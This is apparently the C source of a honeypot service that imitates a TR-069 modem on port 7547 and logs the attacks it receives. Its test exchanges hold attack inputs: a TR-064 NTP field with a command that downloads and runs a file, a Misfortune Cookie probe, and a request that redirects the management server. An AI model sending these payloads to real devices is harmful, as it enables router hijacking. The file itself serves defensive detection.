/*
 * Connection requests of TR-069 (CWMP), as modems leave them open to everybody on port 7547.
 *
 * The operator's server asks here, with Digest, that the modem calls back (TR-069 3.2.2); nobody is
 * ever called.  Attackers come for what else listens there: TR-064 without a password, whose NTP
 * server is handed to a shell (CVE-2016-10372), and the cookies of RomPager, numbers that are
 * written to memory (CVE-2014-9222): the first shows in the page of the error, as in RomPager 4.07.
 */
#include "base/options.h"
#include "passive/services/http/auth.h"
#include "passive/services/http/soap.h"

#define BODY_MAX (32u << 10)
#define PROOF_MAX 1024
#define PAGE_MAX 2048
#define COOKIE_SHOWN_MAX 256
#define MAGIC_COOKIE "C107373883"

static const char *const softwares[] = {"rompager", "gsoap", NULL};
enum software { ROMPAGER, GSOAP };

struct cwmp_device {
	int software;
	const char *server, *realm, *path, *user, *secret, *maker, *model, *version;
};

/* All of the head stands in the fields: whose order tells the two apart. */
static const struct dialect cwmp_dialect = {
	.server = "cwmp",
	.reference = "RomPager 4.07, gSOAP 2.7",
	.page_head = "HTTP/1.1 %{status} %{reason}\r\n%{fields}\r\n",
	.alive = "",
	.dying = "",
	.statuses = (const struct dialect_status[]){{0}},
};

static const struct cwmp_device *device_of(const struct api_call *c)
{
	return session_device(c->session);
}

/* A page of RomPager: one chunk, and EXT as UPnP wants it. */
static void rompager_fields(struct api_call *c, const char *type, struct bytes page, bool asks)
{
	const struct cwmp_device *d = device_of(c);
	char nonce[AUTH_NONCE_CHARS + 1], realm[128];
	if (asks) {
		auth_nonce(session_device_seed(c->session), session_time_us(c->session) / 3600000000, nonce);
		session_expand(c->session, d->realm, realm, sizeof realm);
		write_fmt(&c->fields, "WWW-Authenticate: Digest realm=\"%s\", qop=\"auth\", nonce=\"%s\"\r\n", realm, nonce);
	}
	write_fmt(&c->fields, "Content-Type: %s\r\nTransfer-Encoding: chunked\r\nServer: %s\r\nEXT:\r\n", type, d->server);
	write_fmt(&c->out, "%zX\r\n", page.len);
	write_span(&c->out, page);
	write_text(&c->out, "\r\n0\r\n\r\n");
}

static void rompager_page(struct api_call *c, unsigned status, const char *title, struct bytes about, const char *words)
{
	char room[PAGE_MAX];
	struct writer w = writer_of(room, sizeof room);
	write_fmt(&w, "<HTML>\n<HEAD>\n<TITLE>%s</TITLE></HEAD><BODY>\n<H1>%s</H1>", title, title);
	if (about.len) {
		write_text(&w, "The requested URL '");
		soap_write_text(&w, about);
		write_text(&w, "' was not found on the RomPager server.\n");
	}
	write_fmt(&w, "%s</BODY></HTML>\n", words);
	c->status = status;
	rompager_fields(c, "text/html", writer_bytes(&w), status == 401);
}

/* The cookie that RomPager takes for a place in its memory, or nothing. */
static struct bytes misfortune(const struct api_call *c)
{
	struct bytes cookie = request_field(c->head, "Cookie");
	size_t digits = 1;
	if (cookie.len < 3 || cookie.at[0] != 'C')
		return (struct bytes){0};
	while (digits < cookie.len && cookie.at[digits] >= '0' && cookie.at[digits] <= '9')
		digits++;
	return digits > 1 && digits < cookie.len && cookie.at[digits] == '=' ? cookie : (struct bytes){0};
}

static void not_found(struct api_call *c)
{
	struct bytes cookie = misfortune(c), about = c->path;
	if (cookie.len) {
		char line[64 + COOKIE_SHOWN_MAX];
		struct writer w = writer_of(line, sizeof line);
		write_text(&w, "CVE-2014-9222 ");
		write_bytes(&w, cookie.at, cookie.len < COOKIE_SHOWN_MAX ? cookie.len : COOKIE_SHOWN_MAX);
		event_set_bytes(session_report(c->session, EVENT_COMMAND_SENT), FIELD_COMMAND_LINE, writer_bytes(&w));
		if (bytes_start_with(cookie, MAGIC_COOKIE "=")) {
			about = (struct bytes){cookie.at + sizeof MAGIC_COOKIE, cookie.len - sizeof MAGIC_COOKIE};
			about.len = bytes_find(about, ";");
		}
	}
	about.len = about.len < COOKIE_SHOWN_MAX ? about.len : COOKIE_SHOWN_MAX;
	/* Behind it lies the firmware of the D1000, which leads back to its first page. */
	bool own = bytes_equal_text(c->path, "/globe");
	rompager_page(c, 404, "Object Not Found", about,
	              own ? "<P>Return to <A HREF=\"/home_wan.htm\">last page</A><P>\n" : "<P>Return to <A HREF=\"\">last page</A><P>\n");
}

#define ENVELOPE                                                                                                       \
	"<?xml version=\"1.0\"?>\n<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" "    \
	"SOAP-ENV:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n<SOAP-ENV:Body>\n"
#define ENVELOPE_END "</SOAP-ENV:Body>\n</SOAP-ENV:Envelope>\n"
#define CWMP_ENVELOPE                                                                                                  \
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<SOAP-ENV:Envelope "                                              \
	"xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" "                                                \
	"xmlns:SOAP-ENC=\"http://schemas.xmlsoap.org/soap/encoding/\" "                                                \
	"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" "      \
	"xmlns:cwmp=\"urn:dslforum-org:cwmp-1-0\">"

/* What TR-064 tells about the device; names as in its DeviceInfo, WLANConfiguration and Time. */
static void tr064_values(struct api_call *c, struct bytes service, struct bytes action, struct writer *w)
{
	const struct cwmp_device *d = device_of(c);
	char line[1024], text[1024];
	bool get = bytes_equal_text(action, "GetInfo");
	*line = '\0';
	if (get && bytes_find(service, "DeviceInfo") < service.len)
		snprintf(line, sizeof line,
		         "<NewManufacturerName>%s</NewManufacturerName>\n<NewManufacturerOUI>%%{serial6}</NewManufacturerOUI>\n"
		         "<NewModelName>%s</NewModelName>\n<NewDescription>%s</NewDescription>\n<NewProductClass>%s</NewProductClass>\n"
		         "<NewSerialNumber>%%{serial}</NewSerialNumber>\n<NewSoftwareVersion>%s</NewSoftwareVersion>\n"
		         "<NewHardwareVersion>%s</NewHardwareVersion>\n<NewSpecVersion>1.0</NewSpecVersion>\n"
		         "<NewProvisioningCode></NewProvisioningCode>\n<NewUpTime>%%{uptime}</NewUpTime>\n",
		         d->maker, d->model, d->model, d->model, d->version, d->model);
	else if (bytes_equal_text(action, "GetSecurityKeys"))
		snprintf(line, sizeof line,
		         "<NewWEPKey0></NewWEPKey0>\n<NewWEPKey1></NewWEPKey1>\n<NewWEPKey2></NewWEPKey2>\n<NewWEPKey3></NewWEPKey3>\n"
		         "<NewPreSharedKey>%%{serial}</NewPreSharedKey>\n<NewKeyPassphrase>%%{serial}</NewKeyPassphrase>\n");
	else if (get && bytes_find(service, ":Time:") < service.len)
		snprintf(line, sizeof line, "<NewNTPServer1>pool.ntp.org</NewNTPServer1>\n<NewNTPServer2></NewNTPServer2>\n"
		                            "<NewCurrentLocalTime>%%{date}</NewCurrentLocalTime>\n<NewLocalTimeZone>+00:00</NewLocalTimeZone>\n");
	session_expand(c->session, line, text, sizeof text);
	write_text(w, text);
}

static void tr064(struct api_call *c)
{
	char room[PAGE_MAX + 1024];
	struct writer w = writer_of(room, sizeof room);
	struct bytes service = soap_service(c), action = soap_action(c);
	soap_tell(c, action, "tr064");
	service.len = service.len < 128 ? service.len : 128;
	action.len = action.len < 64 ? action.len : 64;
	write_text(&w, ENVELOPE "<u:");
	soap_write_text(&w, action);
	write_text(&w, "Response xmlns:u=\"");
	soap_write_text(&w, service);
	write_text(&w, "\">\n");
	tr064_values(c, service, action, &w);
	write_text(&w, "</u:");
	soap_write_text(&w, action);
	write_text(&w, "Response>\n" ENVELOPE_END);
	rompager_fields(c, "text/xml; charset=utf-8", writer_bytes(&w), false);
}

static bool let_in(struct api_call *c)
{
	const struct cwmp_device *d = device_of(c);
	const struct persona *p = session_persona(c->session) ? session_persona(c->session) : &persona_plain;
	struct bytes field = c->request->authorization, method = c->request->method;
	uint64_t seed = session_device_seed(c->session), hour = session_time_us(c->session) / 3600000000;
	char nonces[2][AUTH_NONCE_CHARS + 1], room[PROOF_MAX];
	struct writer proof = writer_of(room, sizeof room);
	struct auth a;
	auth_nonce(seed, hour, nonces[0]);
	auth_nonce(seed, hour - 1, nonces[1]);
	if (!field.len || !auth_read(field, method, p, nonces, &a))
		return false;
	struct bytes own = bytes_of_text(d->secret);
	bool mine = *d->user && bytes_equal_text(a.user, d->user) &&
	            (a.kind == AUTH_DIGEST ? auth_digest_fits(field, method, own) : bytes_equal(a.secret, own));
	if (a.kind == AUTH_DIGEST)
		auth_write_proof(field, method, &proof);
	struct bytes secret = mine ? own : a.secret_known ? a.secret : (struct bytes){0};
	session_login_decided(c->session, a.user, secret, proof.bad ? (struct bytes){0} : writer_bytes(&proof), mine);
	return mine;
}

static void gsoap_head(struct api_call *c, const char *type)
{
	const struct cwmp_device *d = device_of(c);
	char nonce[AUTH_NONCE_CHARS + 1], realm[128];
	c->close = true;
	if (c->status == 401) {
		auth_nonce(session_device_seed(c->session), session_time_us(c->session) / 3600000000, nonce);
		session_expand(c->session, d->realm, realm, sizeof realm);
		write_fmt(&c->fields, "WWW-Authenticate: Digest realm=\"%s\", qop=\"auth\", nonce=\"%s\", opaque=\"", realm, nonce);
		api_write_hex(&c->fields, c->session, "opaque", 32);
		write_text(&c->fields, "\"\r\n");
	}
	write_fmt(&c->fields, "Server: %s\r\n", d->server);
	if (writer_used(&c->out))
		write_fmt(&c->fields, "Content-Type: %s\r\n", type);
	write_fmt(&c->fields, "Content-Length: %zu\r\nConnection: close\r\n", writer_used(&c->out));
}

static void gsoap_fault(struct api_call *c, unsigned status, const char *words)
{
	c->status = status;
	write_fmt(&c->out, CWMP_ENVELOPE "<SOAP-ENV:Body><SOAP-ENV:Fault><faultcode>SOAP-ENV:Client</faultcode><faultstring>%s</faultstring>"
	                   "</SOAP-ENV:Fault></SOAP-ENV:Body></SOAP-ENV:Envelope>", words);
	gsoap_head(c, "text/xml; charset=utf-8");
}

/* Methods of TR-069 A.3, which a server sends in a session of its own and attackers at once. */
static bool rpc_answer(struct api_call *c, struct bytes action)
{
	static const struct {
		const char *name, *values;
	} methods[] = {
		{"SetParameterValues", "<Status>0</Status>"},
		{"AddObject", "<InstanceNumber>1</InstanceNumber><Status>0</Status>"},
		{"DeleteObject", "<Status>0</Status>"},
		{"Download", "<Status>1</Status><StartTime>0001-01-01T00:00:00Z</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime>"},
		{"Upload", "<Status>1</Status><StartTime>0001-01-01T00:00:00Z</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime>"},
		{"SetParameterAttributes", ""},
		{"Reboot", ""},
		{"FactoryReset", ""},
	};
	for (size_t i = 0; i < sizeof methods / sizeof *methods; i++) {
		if (!bytes_equal_text(action, methods[i].name))
			continue;
		soap_tell(c, action, "cwmp");
		struct bytes id = soap_text(c->body, "ID");
		write_text(&c->out, CWMP_ENVELOPE "<SOAP-ENV:Header><cwmp:ID SOAP-ENV:mustUnderstand=\"1\">");
		write_bytes(&c->out, id.at, id.len < 64 ? id.len : 64);
		write_fmt(&c->out, "</cwmp:ID></SOAP-ENV:Header><SOAP-ENV:Body><cwmp:%sResponse>%s</cwmp:%sResponse></SOAP-ENV:Body></SOAP-ENV:Envelope>",
		          methods[i].name, methods[i].values, methods[i].name);
		return true;
	}
	return false;
}

static void cwmp_answer(struct api_call *c)
{
	const struct cwmp_device *d = device_of(c);
	struct bytes action = bytes_equal_text(c->request->method, "POST") ? soap_action(c) : (struct bytes){0};
	bool asked = bytes_equal_text(c->path, d->path);
	if (d->software == ROMPAGER && bytes_start_with(c->path, "/UD/") && action.len) {
		tr064(c);
	} else if (d->software == ROMPAGER && !asked && !rpc_answer(c, action)) {
		not_found(c);
	} else if (d->software == ROMPAGER && !asked) {
		char room[PAGE_MAX];
		struct writer w = writer_of(room, sizeof room);
		write_span(&w, writer_bytes(&c->out));
		c->out.at = c->out.start;
		rompager_fields(c, "text/xml; charset=utf-8", writer_bytes(&w), false);
	} else if (!let_in(c)) {
		if (action.len)
			soap_tell(c, action, "cwmp");
		if (d->software == ROMPAGER)
			rompager_page(c, 401, "Protected Object", (struct bytes){0}, "This object on the RomPager server is protected.<P>\n");
		else
			gsoap_fault(c, 401, "HTTP Error: 401 Unauthorized");
	} else {
		if (action.len && !rpc_answer(c, action))
			gsoap_fault(c, 500, "Method not implemented");
		else if (d->software == GSOAP)
			gsoap_head(c, "text/xml; charset=utf-8");
		else
			rompager_page(c, 200, "OK", (struct bytes){0}, "");
	}
}

static const struct api_style cwmp_style = {
	.dialect = &cwmp_dialect,
	.body_max = BODY_MAX,
	.answer = cwmp_answer,
	.bad_request = "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
};

static enum service_next cwmp_input(struct session *s, void *state, struct reader *in)
{
	return api_input(s, state, in, &cwmp_style, state);
}

static void cwmp_close(struct session *s, void *state)
{
	api_close(s, state);
}

/* clang-format off */
#define ROMPAGER_HEAD(status) "HTTP/1.1 " status "\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\nServer: RomPager/4.07 UPnP/1.0\r\nEXT:\r\n\r\n"
#define NOT_FOUND(size, path) ROMPAGER_HEAD("404 Not Found") size "\r\n<HTML>\n<HEAD>\n<TITLE>Object Not Found</TITLE></HEAD><BODY>\n" \
	"<H1>Object Not Found</H1>The requested URL '" path "' was not found on the RomPager server.\n" \
	"<P>Return to <A HREF=\"\">last page</A><P>\n</BODY></HTML>\n\r\n0\r\n\r\n"
#define SET_NTP "<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\">" \
	"<SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`cd /tmp;wget http://198.51.100.9/2;" \
	"chmod 777 2;./2`</NewNTPServer1><NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"
#define SET_URL "<e:Envelope xmlns:e=\"http://schemas.xmlsoap.org/soap/envelope/\"><e:Body><cwmp:SetParameterValues><ParameterList>" \
	"<ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.URL</Name><Value>http://198.51.100.9/acs</Value>" \
	"</ParameterValueStruct></ParameterList></cwmp:SetParameterValues></e:Body></e:Envelope>"

static const struct exchange cwmp_exchanges[] = {
	{"nothing at the root", BYTES("GET / HTTP/1.1\r\nHost: m\r\n\r\n"), BYTES(NOT_FOUND("C8", "/")),
	 "{\"kind\":\"request.seen\",\"request.target\":\"/\",\"status\":404}"},
	{"a misfortune cookie", BYTES("GET / HTTP/1.1\r\nCookie: C107373883=/omg1337hax\r\n\r\n"), BYTES(NOT_FOUND("D2", "/omg1337hax")),
	 "{\"kind\":\"command.sent\",\"command.line\":\"CVE-2014-9222 C107373883=/omg1337hax\"}\n{\"kind\":\"request.seen\",\"status\":404}"},
	{"an NTP server for a shell",
	 BYTES("POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"
	       "Content-Length: 337\r\n\r\n" SET_NTP),
	 BYTES("HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=utf-8\r\nTransfer-Encoding: chunked\r\nServer: RomPager/4.07 UPnP/1.0\r\nEXT:\r\n\r\n"
	       "13D\r\n" ENVELOPE "<u:SetNTPServersResponse xmlns:u=\"urn:dslforum-org:service:Time:1\">\n</u:SetNTPServersResponse>\n"
	       ENVELOPE_END "\r\n0\r\n\r\n"),
	 "{\"kind\":\"command.sent\",\"command.line\":\"SetNTPServers NewNTPServer1=`cd /tmp;wget http://198.51.100.9/2;chmod 777 2;./2`\"}\n"
	 "{\"kind\":\"request.seen\",\"request.target\":\"/UD/act?1\"}\n{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/2\"}"},
	{"another server to call", BYTES("POST / HTTP/1.1\r\nContent-Length: 314\r\n\r\n" SET_URL),
	 BYTES("HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=utf-8\r\nTransfer-Encoding: chunked\r\nServer: RomPager/4.07 UPnP/1.0\r\nEXT:\r\n\r\n"
	       "214\r\n" CWMP_ENVELOPE "<SOAP-ENV:Header><cwmp:ID SOAP-ENV:mustUnderstand=\"1\"></cwmp:ID></SOAP-ENV:Header><SOAP-ENV:Body>"
	       "<cwmp:SetParameterValuesResponse><Status>0</Status></cwmp:SetParameterValuesResponse></SOAP-ENV:Body></SOAP-ENV:Envelope>"
	       "\r\n0\r\n\r\n"),
	 "{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/acs\",\"file.how\":\"cwmp\"}\n"
	 "{\"kind\":\"command.sent\",\"command.line\":\"SetParameterValues InternetGatewayDevice.ManagementServer.URL=http://198.51.100.9/acs\"}\n"
	 "{\"kind\":\"request.seen\",\"status\":200}"},
	{"what is no request", BYTES("\x16\x03\x01\x02\n\n"), BYTES("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
	 "{\"kind\":\"request.seen\",\"status\":400}"},
	{0},
};
/* clang-format on */

#define TEXT(member, value, words) \
	{.name = #member, .type = OPTION_TEXT, .offset = offsetof(struct cwmp_device, member), .fallback = value, .summary = words}

static const struct option cwmp_device_options[] = {
	{.name = "software", .type = OPTION_CHOICE, .offset = offsetof(struct cwmp_device, software), .choices = softwares,
	 .fallback = "rompager", .summary = "how it talks: rompager or gsoap"},
	TEXT(server, "RomPager/4.07 UPnP/1.0", "what it calls itself"),
	TEXT(realm, "%{hostname}", "of the request for credentials, a template"),
	TEXT(path, "/tr069", "where it wants connection requests; gsoap wants them anywhere"),
	TEXT(user, "", "who may ask for a connection; empty: nobody"),
	TEXT(secret, "", "with that password"),
	TEXT(maker, "ZyXEL", "what TR-064 calls the maker"),
	TEXT(model, "P-660HN-T1A", "and the model"),
	TEXT(version, "V3.40(BYF.11)", "and its software"),
	{0},
};

static const struct service cwmp = {
	.name = "cwmp",
	.summary = "modem that waits for connection requests of its operator",
	.reference = "TR-069 3.2.2, TR-064; RomPager 4.07, gSOAP 2.7",
	.transports = TRANSPORT_TCP,
	.ports = {7547},
	.state_size = sizeof(struct api),
	.input_max = API_INPUT_MAX,
	.output_max = 128u << 10,
	.arena_max = API_ARENA_MAX,
	.idle_ms_max = 30 * 1000,
	.session_ms_max = 300 * 1000,
	.device = cwmp_device_options,
	.device_size = sizeof(struct cwmp_device),
	.input = cwmp_input,
	.close = cwmp_close,
	.exchanges = cwmp_exchanges,
};
SERVICE(cwmp);
